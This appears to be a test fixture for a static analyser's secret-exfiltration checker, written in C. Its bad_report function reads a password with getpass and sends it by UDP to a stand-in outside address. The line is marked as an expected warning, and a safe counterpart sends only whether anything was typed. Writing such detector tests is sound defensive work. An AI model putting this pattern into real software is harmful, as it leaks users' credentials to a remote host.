/* What is to be sent waits in a queue: its head moves on before what was taken out is used. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct note {
    struct note *next;
    char text[120];
};

struct notes {
    struct note *first;
    int waiting;
};

static void put(struct notes *notes, const char *text) {
    struct note *note = calloc(1, sizeof *note);
    if (!note)
        return;
    strncpy(note->text, text, sizeof note->text - 1);
    note->next = notes->first;
    notes->first = note;
    notes->waiting++;
}

static struct note *take(struct notes *notes) {
    struct note *note = notes->first;
    if (note) {
        notes->first = note->next;
        notes->waiting--;
    }
    return note;
}

static int dial(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8125)};
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, "203.0.113.31", &peer.sin_addr);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) ? -1 : out;
}

void bad_report(void) {
    struct notes notes = {NULL, 0};
    struct note *note;
    int out = dial();
    put(&notes, "begin");
    put(&notes, getpass("Password: "));
    while ((note = take(&notes))) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(out, note->text, sizeof note->text, 0);
        free(note);
    }
    close(out);
}

/* The same queue, and what is typed is no part of it. */
void good_report(void) {
    struct notes notes = {NULL, 0};
    struct note *note;
    int out = dial();
    put(&notes, "begin");
    put(&notes, *getpass("Password: ") ? "typed" : "empty");
    while ((note = take(&notes))) {
        send(out, note->text, sizeof note->text, 0);
        free(note);
    }
    close(out);
}
